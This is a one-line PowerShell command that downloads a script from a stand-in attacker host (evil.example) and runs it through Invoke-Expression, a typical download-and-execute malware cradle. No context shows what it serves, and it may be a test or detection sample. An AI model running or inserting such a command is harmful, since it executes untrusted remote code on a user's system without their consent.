iwr http://evil.example/x.ps1 | iex
